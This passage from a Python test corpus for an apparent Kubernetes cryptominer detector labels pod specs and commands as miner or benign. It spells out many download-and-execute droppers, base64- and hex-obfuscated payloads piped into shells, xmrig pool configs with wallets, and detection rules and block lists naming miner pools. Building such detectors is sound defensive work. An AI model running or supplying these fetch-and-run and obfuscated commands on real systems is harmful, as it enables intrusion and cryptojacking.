        g('app url user pool-size', 'host:port with user but no miner-only flag', ['./app', '--url', 'db.internal:5432', '--user', 'app', '--pool-size', '10']),
        g('grpcurl', 'host:port argument', ['grpcurl', '-plaintext', '-d', '{}', 'svc.internal:443', 'pkg.Svc/Method']),
        g('etcdctl', 'endpoints and user', ['etcdctl', '--endpoints=https://etcd:2379', '--user', 'root:pw', 'endpoint', 'health']),
        g('minio client alias', 'user and password as args', ['mc', 'alias', 'set', 's3', 'http://minio:9000', 'user', 'password']),
        g('hashcat benchmark', 'hashcat -a is an attack mode', ['hashcat', '-a', '0', '-m', '1400', 'hashes.txt', 'words.txt']),
        g('openssl s_client', 'host:port and tls flags', ['openssl', 's_client', '-connect', 'api.example.com:443', '-tls1_3']),
        g('rsync over ssh', 'rsync -e', ['rsync', '-az', '-e', 'ssh -p 2222', '/data/', 'backup@host.internal:/srv/']),
        g('kafka producer', 'bootstrap server host:port', ['kafka-console-producer.sh', '--bootstrap-server', 'kafka:9092', '--topic', 'events']),
        g('socat forwarder', 'host:port addresses', ['socat', 'TCP-LISTEN:3333,fork', 'TCP:backend.internal:8080']),
        g('envoy with options', 'envoy -c', ['envoy', '-c', '/etc/envoy/envoy.yaml', '--log-level', 'info']),
        g('ffmpeg output', 'ffmpeg -i -f', ['ffmpeg', '-i', 'rtsp://cam.internal:554/s', '-f', 'hls', '/out/index.m3u8']),
        g('pgbench', 'pgbench -U -h -p -c', ['pgbench', '-U', 'bench', '-h', 'db.internal', '-p', '5432', '-c', '10', '-T', '60']),
        g('siege', 'load testing with -c -t', ['siege', '-c', '25', '-t', '1M', 'http://web.internal:8080/']),
        g('kubectl with server, user and kustomize', 'kubectl -s/--server and --user are global options, apply -k a kustomization', ['kubectl', '--server=api.example.com:6443', '--user=admin', 'apply', '-k', 'overlays/prod']),
        g('redis-server port', 'redis-server --port', ['redis-server', '--port', '6379', '--protected-mode', 'no']),
        g('spring boot server port', 'Spring Boot --server.port property', ['java', '-jar', 'app.jar', '--server.port=8080', '--server.address=0.0.0.0']),
        g('zabbix sender', 'zabbix_sender -z server -p port -s host -k key -o value', ['zabbix_sender', '-z', 'zbx.example.com', '-p', '10051', '-s', 'web01.example.com', '-k', 'system.cpu.load', '-o', '1.5']),
        g('curl through a proxy with output and user', 'curl -p tunnels, -x proxy host:port, -o file, -u user', ['curl', '-sS', '-p', '-x', 'proxy.example.com:3128', '-o', 'out.json', '-u', 'svc:pw', 'https://api.example.com/v1']),
    ],
}

# --- droppers -----------------------------------------------------------------------------------
techniques['droppers'] = {
    'description': 'Download-and-execute in shell, Python, Perl, PHP, Node and BusyBox forms, to IP literals in any base.',
    'miners': [
        case('sh -c with curl substitution', ISSUE, sh('sh -c "$(curl -fsSL http://203.0.113.10/i.sh)"')),
        case('bash -c with wget substitution', ISSUE, c('debian:12', ['bash', '-c', '$(wget -qO- http://198.51.100.3/x)'])),
        case('wget -qO- piped to sh', ISSUE, sh('wget -qO- http://203.0.113.11/s | sh')),
        case('curl piped to /bin/sh', ISSUE, sh('curl -s http://203.0.113.12/a.sh | /bin/sh')),
        case('curl piped to bash -s with arguments', ISSUE, sh('curl http://203.0.113.13/x | bash -s -- --port 3333')),
        case('hex IP literal', ISSUE + ' (0xCB007107 is 203.0.113.7)', sh('wget -O- http://0xCB007107/x | sh')),
        case('decimal IP literal', ISSUE + ' (3405803783 is 203.0.113.7)', sh('curl http://3405803783/s | sh')),
        case('octal dotted IP literal', ISSUE + ' (0313.0.0161.07 is 203.0.113.7)', sh('curl http://0313.0.0161.07/s | sh')),
        case('hex dotted IP literal', ISSUE, sh('sh -c "$(curl -fsSL http://0xcb.0x0.0x71.0x1c/i)"')),
        case('python3 urlopen exec', ISSUE + ' (python one-liner)', c('python:3.12', ['python3', '-c', "import urllib.request as u;exec(u.urlopen('http://203.0.113.14/p').read())"])),
        case('python2 urllib2 exec', ISSUE + ' (python one-liner)', c('python:2.7', ['python', '-c', "import urllib2;exec(urllib2.urlopen('http://203.0.113.15/p').read())"])),
        case('perl LWP get eval', ISSUE + ' (perl one-liner)', c('perl:5.38', ['perl', '-MLWP::Simple', '-e', 'eval(get("http://203.0.113.16/p"))'])),
        case('busybox wget piped to busybox sh', ISSUE + ' (busybox one-liner)', c('busybox:1.36', ['busybox', 'sh', '-c', 'busybox wget -q -O - http://203.0.113.17/b | busybox sh'])),
        case('busybox wget to tmp then run', 'Unit 42, Hildegard, 2021 (busybox droppers)', c('busybox:1.36', ['sh', '-c', 'busybox wget http://203.0.113.18/m -O /tmp/m; chmod +x /tmp/m; /tmp/m'])),
        case('curl to /dev/shm then sh', 'Unit 42, Hildegard, 2021', sh('curl -s http://203.0.113.19/x -o /dev/shm/x && sh /dev/shm/x')),
        case('curl piped to sudo bash', ISSUE, sh('curl -s http://203.0.113.20/x | sudo bash')),
        case('curl piped to python3', ISSUE, sh('curl -sL http://203.0.113.21/a | python3')),
        case('wget of an IP without scheme', ISSUE, sh('wget -qO- 203.0.113.22/x|sh')),
        case('php eval of a download', ISSUE, c('php:8.3-cli', ['php', '-r', 'eval(file_get_contents("http://203.0.113.23/p"));'])),
        case('node http get eval', ISSUE, c('node:22', ['node', '-e', "require('http').get('http://203.0.113.24/p',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})"])),
        case('bash /dev/tcp download to shell', 'Trend Micro, TeamTNT (downloads without curl or wget)', c('debian:12', ['bash', '-c', 'exec 3<>/dev/tcp/203.0.113.25/80; printf "GET /x HTTP/1.0\\r\\n\\r\\n" >&3; sed 1,/^\\r$/d <&3 | sh'])),
        case('source process substitution', ISSUE, c('debian:12', ['bash', '-c', '. <(curl -s http://203.0.113.26/x)'])),
        case('source wget process substitution', ISSUE, c('debian:12', ['bash', '-c', 'source <(wget -qO- http://203.0.113.27/x)'])),
        case('redirect to tmp then sh', 'Unit 42, Hildegard, 2021', sh('curl http://203.0.113.28/x > /tmp/x; sh /tmp/x')),
        case('IPv4-mapped IPv6 literal', ISSUE, sh('curl http://[::ffff:203.0.113.29]/x | sh')),
    ],
    'benign': [
        case('helm installer script', 'a well-known installer from a name, without company', sh('curl -fsSL https://raw.githubusercontent.com/helm/helm/main/scripts/get-helm-3 | bash', 'debian:12')),
        case('rustup', 'a well-known installer from a name', sh('curl --proto =https -sSf https://sh.rustup.rs | sh -s -- -y', 'debian:12')),
        case('nodesource setup', 'a well-known installer from a name', sh('curl -fsSL https://deb.nodesource.com/setup_20.x | bash -', 'debian:12')),
        case('health check of a private address', 'private address, nothing executed', c(command=['curl', '-f', 'http://10.0.0.5:8080/health'])),
        case('cloud metadata', 'link-local metadata service', c(command=['curl', '-s', 'http://169.254.169.254/latest/meta-data/instance-id'])),
        case('python health check', 'loopback, nothing executed', c('python:3.12', ['python', '-c', "import urllib.request; print(urllib.request.urlopen('http://localhost:8080/healthz').status)"])),
        case('perl hello', 'perl one-liner without download', c('perl:5.38', ['perl', '-e', 'print "hello\\n"'])),
        case('busybox wget health', 'cluster service, output discarded', c('busybox:1.36', ['busybox', 'wget', '-q', '-O', '/dev/null', 'http://web.default.svc.cluster.local/health'])),
        case('download data then jq', 'data, not a script', sh('curl -o /tmp/data.json https://api.example.com/data && jq . /tmp/data.json')),
        case('release tarball extracted', 'a release archive from a name', sh('wget -O /tmp/app.tgz https://github.com/example/app/releases/download/v1.0/app.tgz && tar xzf /tmp/app.tgz -C /opt')),
        case('sh -c of a local file', 'no download', sh('sh -c "$(cat /config/init.sh)"')),
        case('minio health on a private IP', 'private address', c(command=['curl', '-f', 'http://192.168.1.20:9000/minio/health/live'])),
        case('netcat to the API server', 'private address', c(command=['nc', '-z', '10.96.0.1', '443'])),
        case('node health check', 'loopback, nothing evaluated', c('node:22', ['node', '-e', "require('http').get('http://localhost:3000/health', r => process.exit(r.statusCode === 200 ? 0 : 1))"])),
        case('bash /dev/tcp probe to localhost', 'the common bash TCP health probe', c('debian:12', readinessProbe={'exec': {'command': ['bash', '-c', 'exec 3<>/dev/tcp/127.0.0.1/8080']}})),
        case('IPv6 loopback health', 'loopback', c(command=['curl', '-f', 'http://[::1]:8080/health'])),
        case('download from a public IP without execution', 'a raw IP alone stays below the thresholds', c(command=['curl', '-o', '/data/dump.csv', 'http://198.51.100.1/export.csv'])),
        case('python http server', 'serving, not downloading', c('python:3.12', ['python3', '-m', 'http.server', '8000'])),
        case('CGNAT service address piped to sh', 'CGNAT 100.64.0.0/10 is not public (RFC 6598); ' + ISSUE, sh('wget -qO- http://100.64.0.10:8080/bootstrap.sh | sh')),
        case('pip installer script', 'a well-known installer from a name', sh('curl -sS https://bootstrap.pypa.io/get-pip.py | python3', 'debian:12')),
    ],
}

# --- encodings -------------------------------------------------------------------------------
techniques['encodings'] = {
    'description': 'Payloads hidden by encoding; decoding piped into a shell, and statically decodable payloads.',
    'miners': [
        case('base64 piped to sh', 'Trend Micro, TeamTNT base64 payloads, 2021', sh(f'echo {b64(PAYLOAD)} | base64 -d | sh')),
        case('openssl enc -d -a piped to sh', ISSUE, sh(f'echo {b64(PAYLOAD)} | openssl enc -d -a | sh')),
        case('xxd -r -p piped to sh', ISSUE, sh(f'echo {hexs(PAYLOAD)} | xxd -r -p | sh')),
        case('base64 and gunzip piped to sh', ISSUE, sh(f'echo {gzb64(PAYLOAD)} | base64 -d | gunzip | sh')),
        case('rev piped to sh', ISSUE, sh(f"echo '{PAYLOAD[::-1]}' | rev | sh")),
        case('printf hex escapes piped to sh', ISSUE, sh(f"printf '{esc(PAYLOAD)}' | sh")),
        case('base64 --decode piped to bash', ISSUE, c('debian:12', ['bash', '-c', f'echo {b64(PAYLOAD)} | base64 --decode | bash'])),
        case('python b64decode into os.system', ISSUE, c('python:3.12', ['python3', '-c', f"import base64,os;os.system(base64.b64decode('{b64(PAYLOAD)}'))"])),
        case('bash -c of a decoded substitution', ISSUE, c('debian:12', ['bash', '-c', f'bash -c "$(echo {b64(PAYLOAD)} | base64 -d)"'])),
        case('eval of a decoded substitution', ISSUE, sh(f'eval "$(echo {b64(PAYLOAD)} | base64 -d)"')),
        case('payload in env decoded into sh', ISSUE, sh('echo $PAYLOAD | base64 -d | sh', env={'PAYLOAD': b64(PAYLOAD)})),
        case('decode to shell of a harmless script', 'decoding piped into a shell hides the script: refused whatever it decodes (' + ISSUE + ')', sh(f'echo {b64(QUIET)} | base64 -d | sh')),
        case('base64 payload in env, run by eval', ISSUE + ' (static decoding)', sh('eval "$(printf %s "$CMD" | base64 -d)"', env={'CMD': b64(PAYLOAD)})),
        case('hex payload in env read statically', ISSUE + ' (static decoding)', c(command=['/app/loader'], env={'BLOB': hexs(PAYLOAD)})),
        case('gzip+base64 payload in env read statically', ISSUE + ' (static decoding)', c(command=['/app/loader'], env={'BLOB': gzb64(PAYLOAD)})),
        case('reversed string decoded by rev into a substitution', ISSUE, sh(f"sh -c \"$(echo '{PAYLOAD[::-1]}' | rev)\"")),
        case('perl pack H* eval', ISSUE, c('perl:5.38', ['perl', '-e', f'eval pack("H*","{hexs(PAYLOAD)}")'])),
        case('openssl base64 -d of a file piped to sh', ISSUE, sh('openssl base64 -d -in /tmp/p | sh')),
        case('base32 decode piped to sh', ISSUE, sh(f'echo {b32(PAYLOAD)} | base32 -d | sh')),
        case('xxd -p -r into bash', ISSUE, c('debian:12', ['bash', '-c', f'xxd -p -r <<< {hexs(PAYLOAD)} | bash'])),
    ],
    'benign': [
        case('CA bundle decoded into a file', 'decoding into a file, not a shell', sh('echo $CA_BUNDLE | base64 -d > /etc/ssl/certs/ca.pem', env={'CA_BUNDLE': b64('-----BEGIN CERTIFICATE-----\nMIIBexample\n-----END CERTIFICATE-----\n')})),
        case('key decoded from a mounted secret', 'decoding into a file', sh('base64 -d /secrets/key.b64 > /tmp/key && chmod 600 /tmp/key')),
        case('openssl decryption to a file', 'openssl enc -d into a file', sh('openssl enc -d -aes-256-cbc -pbkdf2 -in /data/secret.enc -out /tmp/secret.txt -pass env:KEY')),
        case('xxd revert to a file', 'binary written to a file', sh('xxd -r -p /data/firmware.hex > /tmp/firmware.bin')),
        case('base64 JSON config in env', 'configuration that decodes to data', c(command=['/app'], env={'CONFIG_B64': b64('{"listen": ":8080", "log": "info", "features": ["a", "b"]}')})),
        case('printf of a message', 'printf without hex escapes into a shell', sh('printf "%s\\n" "$MSG" | tee -a /var/log/app.log', env={'MSG': 'started'})),
        case('rev of a word', 'rev into a terminal', sh('echo hello | rev')),
        case('gunzip into psql', 'decompression into a database client, not a shell', sh('gunzip -c /backup/dump.sql.gz | psql -U app app', 'postgres:16')),
        case('kubectl secret decode', 'decoding to stdout', c('bitnami/kubectl:1.30', ['sh', '-c', "kubectl get secret token -o jsonpath='{.data.token}' | base64 -d > /shared/token"])),
        case('PEM certificate in env', 'a certificate, base64 inside', c(command=['/app'], env={'TLS_CERT': '-----BEGIN CERTIFICATE-----\\n' + b64('x' * 200) + '\\n-----END CERTIFICATE-----'})),
        case('local script piped to sh', 'no decoding, no download', sh('cat /scripts/start.sh | sh')),
        case('python decode to stdout', 'decoding printed, not executed', c('python:3.12', ['python', '-c', "import base64;print(base64.b64decode(open('/in').read()).decode())"])),
        case('JWT in env', 'a token', c(command=['/app'], env={'TOKEN': 'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.' + b64('{"sub":"1234567890","name":"svc","iat":1516239022}').rstrip('=') + '.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c'})),
        case('zcat into mysql', 'decompression into a database client', sh('zcat /data/dump.gz | mysql app', 'mysql:8')),
        case('hex digest in env', 'a checksum', c(command=['/app'], env={'ARTIFACT_SHA256': 'd2fbc4ec70d8aa2050dd91a91506e998765e86c96f32cffb56c503c9c34eed5b'})),
    ],
}

# --- places ------------------------------------------------------------------------------------
def pod(containers, volumes=None, annotations=None, labels=None):
    meta = {'name': 'p', 'namespace': 'corpus'}
    if annotations: meta['annotations'] = annotations
    if labels: meta['labels'] = labels
    spec = {'containers': containers}
    if volumes: spec['volumes'] = volumes
    return {'apiVersion': 'v1', 'kind': 'Pod', 'metadata': meta, 'spec': spec}


def cm(name, data):
    return {'apiVersion': 'v1', 'kind': 'ConfigMap', 'metadata': {'name': name, 'namespace': 'corpus'}, 'data': data}


podinfo = [{'name': 'podinfo', 'downwardAPI': {'items': [{'path': 'run', 'fieldRef': {'fieldPath': "metadata.annotations['run']"}}]}}]
cfgvol = lambda name: [{'name': 'cfg', 'configMap': {'name': name}}]
mount = [{'name': 'cfg', 'mountPath': '/cfg'}]
JSON5_CONFIG = '{\n  // xmrig accepts comments and trailing commas\n  "autosave": true,\n  "pools": [\n    { "url": "pool.example.net:3333", "user": "' + W + '", "keepalive": true, },\n  ],\n}\n'
JSON5_NOWALLET = '{\n  /* tuned for the cluster */\n  "donate-level": 0,\n  "randomx": { "1gb-pages": true, },\n  "pools": [ { "url": "203.0.113.80:3333", "user": "rig01", "pass": "x", }, ],\n}\n'
XMRSTAK_POOLS = '"pool_list" :\n[\n  {"pool_address" : "203.0.113.81:5555", "wallet_address" : "' + W + '", "rig_id" : "", "pool_password" : "x", "use_nicehash" : false, "use_tls" : false, "tls_fingerprint" : "", "pool_weight" : 1 },\n],\n"currency" : "monero",\n'
PLAIN_XMRIG = '{"pools": [{"url": "198.51.100.82:443", "user": "w", "pass": "x", "tls": true}], "cpu": {"enabled": true, "max-threads-hint": 75}, "donate-level": 1}'
techniques['places'] = {
    'description': 'Everything the container sees: downwardAPI annotations and labels, shell ${VAR} joins, ConfigMaps in the same review, tolerant (JSON5) miner configs.',
    'miners': [
        case('annotation projected by downwardAPI and run', ISSUE, object=pod([c('alpine', ['sh', '/etc/podinfo/run'], volumeMounts=[{'name': 'podinfo', 'mountPath': '/etc/podinfo'}])], podinfo, annotations={'run': 'wget -qO- http://203.0.113.30/x | sh'})),
        case('annotation in env through fieldRef', ISSUE, object=pod([{'name': 'main', 'image': 'alpine', 'command': ['sh', '-c', '/app $(ARGS)'], 'env': [{'name': 'ARGS', 'valueFrom': {'fieldRef': {'fieldPath': "metadata.annotations['args']"}}}]}], annotations={'args': f'-o pool.minexmr.com:443 -u {W}'})),
        case('label projected by downwardAPI', ISSUE, object=pod([c('alpine', ['sh', '-c', '/app -o $(cat /etc/podinfo/labels | cut -d= -f2):443'], volumeMounts=[{'name': 'podinfo', 'mountPath': '/etc/podinfo'}])], [{'name': 'podinfo', 'downwardAPI': {'items': [{'path': 'labels', 'fieldRef': {'fieldPath': 'metadata.labels'}}]}}], labels={'pool': 'pool.supportxmr.com'})),
        case('all annotations projected', ISSUE, object=pod([c('alpine', ['sh', '-c', 'sh /etc/podinfo/annotations'], volumeMounts=[{'name': 'podinfo', 'mountPath': '/etc/podinfo'}])], [{'name': 'podinfo', 'projected': {'sources': [{'downwardAPI': {'items': [{'path': 'annotations', 'fieldRef': {'fieldPath': 'metadata.annotations'}}]}}]}}], annotations={'x': 'curl http://198.51.100.31/m | bash'})),
        case('shell ${A}${B} join of a stratum URL', ISSUE, sh('./app -o ${P1}${P2}', env={'P1': 'stratum+tc', 'P2': 'p://pool.example.net:3333'})),
        case('shell $A$B join of a pool domain', ISSUE, sh('./app -o pool.$H1$H2:443', env={'H1': 'supportx', 'H2': 'mr.com'})),
        case('shell join of a miner name', ISSUE, sh('/opt/${N1}${N2} --url ${U}', env={'N1': 'xm', 'N2': 'rig', 'U': 'example.net:3333'})),
        case('ConfigMap with a plain xmrig config mounted by the pod', ISSUE + ' (check reads both objects)', objects=[cm('app-config', {'config.json': PLAIN_XMRIG}), pod([c('alpine', ['/app/svc', '--config', '/cfg/config.json'], volumeMounts=mount)], cfgvol('app-config'))]),
        case('JSON5 xmrig config with a wallet', 'xmrig accepts JSON with comments and trailing commas; ' + ISSUE, configMap={'config.json': JSON5_CONFIG}),
        case('JSON5 xmrig config without a wallet', ISSUE, configMap={'config.json': JSON5_NOWALLET}),
        case('xmr-stak pools.txt', 'xmr-stak documentation (pools.txt); ' + ISSUE, configMap={'pools.txt': XMRSTAK_POOLS}),
        case('pool from a ConfigMap key in env', ISSUE + ' (check reads both objects)', objects=[cm('pool', {'host': 'pool.minexmr.com:443', 'wallet': W}), pod([{'name': 'main', 'image': 'alpine', 'command': ['/svc'], 'env': [{'name': 'H', 'valueFrom': {'configMapKeyRef': {'name': 'pool', 'key': 'host'}}}]}])]),
        case('envFrom a ConfigMap with a wallet and flags', ISSUE + ' (check reads both objects)', objects=[cm('miner-env', {'ARGS': f'-o 203.0.113.83:3333 -u {W} -k --tls'}), pod([{'name': 'main', 'image': 'alpine', 'command': ['sh', '-c', '/svc $ARGS'], 'envFrom': [{'configMapRef': {'name': 'miner-env'}}]}])]),
        case('projected ConfigMap with a script', ISSUE + ' (check reads both objects)', objects=[cm('boot', {'boot.sh': 'curl -s http://203.0.113.84/x | sh'}), pod([c('alpine', ['sh', '/cfg/boot.sh'], volumeMounts=mount)], [{'name': 'cfg', 'projected': {'sources': [{'configMap': {'name': 'boot'}}]}}])]),
        case('JSON5 config in a ConfigMap mounted by the pod', ISSUE, objects=[cm('j5', {'c.json': JSON5_NOWALLET}), pod([c('alpine', ['/svc', '-c', '/cfg/c.json'], volumeMounts=mount)], cfgvol('j5'))]),
    ],
    'benign': [
        case('downwardAPI labels and annotations of a web app', 'usual metadata', object=pod([c('nginx:1.27', volumeMounts=[{'name': 'podinfo', 'mountPath': '/etc/podinfo'}])], [{'name': 'podinfo', 'downwardAPI': {'items': [{'path': 'labels', 'fieldRef': {'fieldPath': 'metadata.labels'}}, {'path': 'annotations', 'fieldRef': {'fieldPath': 'metadata.annotations'}}]}}], annotations={'prometheus.io/scrape': 'true', 'prometheus.io/port': '9113'}, labels={'app': 'web', 'tier': 'frontend'})),
        case('pod annotation not projected', 'an annotation the container never sees', object=pod([c('nginx:1.27')], annotations={'kubectl.kubernetes.io/last-applied-configuration': '{"apiVersion":"v1","kind":"Pod"}'})),
        case('shell variables of paths', 'ordinary ${VAR} joins', sh('cp ${HOME}/${APP}.conf /etc/${APP}/', env={'APP': 'web', 'HOME': '/root'})),
        case('env joined into a database URL', 'a database URL', sh('./app --db postgres://${DB_USER}@${DB_HOST}:5432/app', env={'DB_USER': 'app', 'DB_HOST': 'db.internal'})),
        case('nginx ConfigMap mounted', 'web server config', objects=[cm('nginx', {'default.conf': 'server { listen 80; location / { root /usr/share/nginx/html; } }'}), pod([c('nginx:1.27', volumeMounts=mount)], cfgvol('nginx'))]),
        case('env from a ConfigMap with DB host', 'app settings', objects=[cm('settings', {'DB_HOST': 'db.internal', 'DB_PORT': '5432', 'LOG_LEVEL': 'info'}), pod([{'name': 'main', 'image': 'app:1', 'envFrom': [{'configMapRef': {'name': 'settings'}}]}])]),
        case('JSON5 app settings', 'JSON5 that is no miner config', configMap={'settings.json5': '{\n  // feature flags\n  features: { search: true, },\n  listen: ":8080",\n}\n'}),
        case('tsconfig with comments', 'JSON with comments', configMap={'tsconfig.json': '{\n  // strict mode\n  "compilerOptions": { "strict": true, "target": "es2022", },\n}\n'}),
        case('ConfigMap referenced but absent from the review', 'nothing to read', object=pod([c('alpine', ['/app', '--config', '/cfg/config.json'], volumeMounts=mount)], cfgvol('not-here'))),
        case('prometheus config mounted', 'monitoring config', objects=[cm('prom', {'prometheus.yml': 'global:\n  scrape_interval: 15s\nscrape_configs:\n  - job_name: node\n    static_configs:\n      - targets: ["node-exporter:9100"]\n'}), pod([c('prom/prometheus:v2.53.0', volumeMounts=mount)], cfgvol('prom'))]),
        case('downwardAPI pod name and namespace in env', 'usual metadata', object=pod([{'name': 'main', 'image': 'app:1', 'env': [{'name': 'POD', 'valueFrom': {'fieldRef': {'fieldPath': 'metadata.name'}}}, {'name': 'NS', 'valueFrom': {'fieldRef': {'fieldPath': 'metadata.namespace'}}}]}])),
        case('downwardAPI resource limits', 'usual metadata', object=pod([c('app:1', volumeMounts=[{'name': 'podinfo', 'mountPath': '/etc/podinfo'}])], [{'name': 'podinfo', 'downwardAPI': {'items': [{'path': 'cpu_limit', 'resourceFieldRef': {'containerName': 'main', 'resource': 'limits.cpu'}}]}}])),
        case('backup script ConfigMap mounted', 'a script that downloads nothing', objects=[cm('backup', {'backup.sh': '#!/bin/sh\nset -e\npg_dump -h db.internal app | gzip > /backup/app-$(date +%F).sql.gz\n'}), pod([c('postgres:16', ['sh', '/cfg/backup.sh'], volumeMounts=mount)], cfgvol('backup'))]),
        case('annotation with a checksum projected', 'config checksums', object=pod([c('app:1', volumeMounts=[{'name': 'podinfo', 'mountPath': '/etc/podinfo'}])], podinfo, annotations={'run': 'checksum/config=3f1c2a'})),
    ],
}

# --- precision ---------------------------------------------------------------------------------
YARA_RULES = 'rule xmrig_miner {\n  meta:\n    description = "XMRig Monero miner"\n  strings:\n    $a = "stratum+tcp://" ascii\n    $b = "xmrig" nocase\n    $c = "--donate-level" ascii\n    $d = "pool.supportxmr.com"\n  condition:\n    2 of them\n}\n'
FALCO_RULES = '- list: miner_domains\n  items: [pool.supportxmr.com, xmr.2miners.com, gulf.moneroocean.stream, pool.minexmr.com]\n- list: miner_ports\n  items: [3333, 4444, 14444]\n- rule: Detect outbound connections to common miner pool ports\n  condition: outbound and fd.sport in (miner_ports) and fd.sip.name in (miner_domains)\n  output: Outbound connection to a mining pool (command=%proc.cmdline)\n- rule: Detect crypto miners using the Stratum protocol\n  condition: spawned_process and (proc.cmdline contains "stratum+tcp" or proc.cmdline contains "stratum+ssl")\n  output: Possible miner running (command=%proc.cmdline)\n'
SURICATA = 'alert tcp $HOME_NET any -> $EXTERNAL_NET any (msg:"ET COINMINER Stratum login"; content:"mining.subscribe"; content:"stratum+tcp"; sid:2024792; rev:3;)\nalert dns $HOME_NET any -> any any (msg:"ET COINMINER pool.supportxmr.com lookup"; dns.query; content:"supportxmr.com"; sid:2027450; rev:1;)\n'
SIGMA = 'title: Monero Crypto Coin Mining Pool Lookup\nlogsource:\n  category: dns\ndetection:\n  selection:\n    query|contains:\n      - pool.minexmr.com\n      - pool.supportxmr.com\n      - xmr.2miners.com\n  condition: selection\nlevel: high\n'
HOSTS = '0.0.0.0 pool.supportxmr.com\n0.0.0.0 xmr.2miners.com\n0.0.0.0 pool.minexmr.com\n0.0.0.0 gulf.moneroocean.stream\n'
techniques['precision'] = {
    'description': 'Text about miners (rules, block lists, detection configs, documentation values) and the issue\'s false positives; and miners that borrow that context.',
    'miners': [
        case('a miner named yara', 'context words must not excuse a pool and a wallet', c(command=['/opt/yara', '-o', 'pool.supportxmr.com:443', '-u', W])),
        case('falco-looking ConfigMap holding a miner config', 'a rule file does not contain pools with wallets', configMap={'rules.yaml': '# falco rules\n- rule: x\n', 'config.json': '{"pools": [{"url": "pool.supportxmr.com:443", "user": "' + W + '"}]}'}),
        case('README env beside a miner command line', 'a donation line does not excuse the command line', c(command=['/app/svc', '-o', '203.0.113.90:3333', '-u', W, '-k'], env={'README': 'Donations: ' + W2})),
        case('CGNAT proxy with miner grammar', 'a private address does not excuse miner grammar', c(command=['/app', '-o', '100.64.0.5:3333', '-u', W, '--tls', '-k'])),
        case('blocklist env with a real stratum command', 'a list of names does not excuse a stratum URL', c(command=['/svc', '-o', 'stratum+tcp://203.0.113.91:3333'], env={'BLOCKED': 'xmrig,minerd,cpuminer'})),
    ],
    'benign': [
        case('YARA job naming xmrig', 'YARA scans for miners: its args name them (' + ISSUE + ')', c('blacktop/yara:latest', ['yara', '-r', '-s', '/rules/xmrig.yar', '/host/usr/bin'])),
        case('YARA rules ConfigMap', 'YARA rules describe miners', configMap={'miners.yar': YARA_RULES}),
        case('Falco rules ConfigMap', 'Falco rules list miner domains and stratum', configMap={'miner_rules.yaml': FALCO_RULES}),
        case('Suricata rules ConfigMap', 'Suricata rules match stratum and pool names', configMap={'coinminer.rules': SURICATA}),
        case('Sigma rule ConfigMap', 'Nextron Systems, Sigma rule Monero pool lookup, 2021-10 (a rule is data about miners)', configMap={'pool-lookup.yml': SIGMA}),
        case('DNS block list of pools', 'a hosts file that blocks pools', configMap={'blocklist.hosts': HOSTS}),
        case('donation addresses in a README-like env', 'prose with addresses is documentation (' + ISSUE + ')', c(command=['/app'], env={'README': f'Like this tool? Donations welcome: XMR {W} or BTC {BTC}. Thank you!'})),
        case('Ganache deterministic wallet', 'Ganache CLI option --wallet.deterministic (' + ISSUE + ')', c('trufflesuite/ganache:v7.9.2', ['node', '/app/dist/node/cli.js', '--wallet.deterministic', '--wallet.totalAccounts', '10', '--chain.chainId', '1337'])),
        case('CGNAT address downloaded', 'CGNAT 100.64.0.0/10 is shared address space, not public (RFC 6598)', c(command=['curl', '-fsSL', 'http://100.64.12.7:8080/config.json', '-o', '/tmp/config.json'])),
        case('app pools config with postgres URLs', 'a pools key with database URLs is no miner config (' + ISSUE + ')', configMap={'config.json': '{"pools": [{"name": "primary", "url": "postgres://app@db-primary:5432/app", "user": "app"}, {"name": "replica", "url": "postgres://app@db-replica:5432/app", "user": "app"}]}'}),
        case('password tool with --algorithm scrypt', 'scrypt is a password hash (' + ISSUE + ')', c(command=['/app/hasher', '--algorithm', 'scrypt', '--cost', '16384', '--salt-bytes', '16'])),
        case('block list env of miner names', 'a comma list of names is a block list', c('falcosecurity/falco:0.38', ['falco'], env={'BLOCKED_PROCESSES': 'xmrig,xmr-stak,minerd,cpuminer,kdevtmpfsi'})),
        case('deny list env of pool domains', 'a list of pool domains is a block list', c(command=['/egress-guard'], env={'DENY_HOSTS': 'supportxmr.com,nanopool.org,minexmr.com,moneroocean.stream'})),
        case('Tetragon policy matching miner binaries', 'a runtime policy names miners', configMap={'policy.yaml': 'apiVersion: cilium.io/v1alpha1\nkind: TracingPolicy\nspec:\n  kprobes:\n    - call: sys_execve\n      selectors:\n        - matchBinaries:\n            - operator: In\n              values: ["/usr/bin/xmrig", "/tmp/kdevtmpfsi", "/usr/local/bin/minerd"]\n'}),
        case('Prometheus alert on miner processes', 'an alert names miners', configMap={'alerts.yaml': 'groups:\n  - name: miners\n    rules:\n      - alert: CryptoMinerProcess\n        expr: namedprocess_namegroup_num_procs{groupname=~"xmrig|minerd|xmr-stak"} > 0\n        annotations:\n          summary: a miner process is running\n'}),
        case('osquery pack', 'a query names miners', configMap={'miners.conf': '{"queries": {"miners": {"query": "SELECT * FROM processes WHERE name IN (\'xmrig\', \'minerd\', \'kdevtmpfsi\')", "interval": 300}}}'}),
        case('grep hunting script', 'a hunt for miners names them', c(command=['sh', '-c', "grep -lE 'xmrig|minerd|stratum\\+tcp' /proc/*/cmdline || true"])),
        case('Rego policy naming xmrig', 'an admission policy names miners', configMap={'policy.rego': 'package k8s\ndeny[msg] {\n  contains(input.request.object.spec.containers[_].image, "xmrig")\n  msg := "miner image"\n}\n'}),
        case('documentation value in chart env', 'an example shown in docs', c(command=['/docs-server'], env={'EXAMPLE': 'Example of a blocked command line: xmrig -o pool.example.net:3333 (see the detection docs)'})),
        case('hardhat node', 'an Ethereum development node', c('node:22', ['npx', 'hardhat', 'node', '--hostname', '0.0.0.0'])),
        case('Falco DaemonSet args', 'falco options', c('falcosecurity/falco:0.38', ['/usr/bin/falco', '-o', 'json_output=true', '-o', 'rules_file=/etc/falco/rules.d/miners.yaml'])),
        case('ClamAV scan with a miner signature name', 'a scanner option names a miner family', c('clamav/clamav:1.3', ['clamscan', '-r', '--include=*.elf', '--exclude-pua=Miner', '/host'])),
        case('an Ethereum address in a web3 app', 'web3 apps carry addresses', c(command=['/app'], env={'CONTRACT': ETH, 'RPC_URL': 'https://rpc.example.com'})),
        case('argon2 password hashing service', 'argon2 is a password hash', c(command=['/app/auth', '--hash-algorithm', 'argon2id', '--memory', '65536'])),
        case('sha256d checksum tool', 'a checksum algorithm name', c(command=['/bin/cksum-tool', '--algorithm', 'sha256', '/data'])),
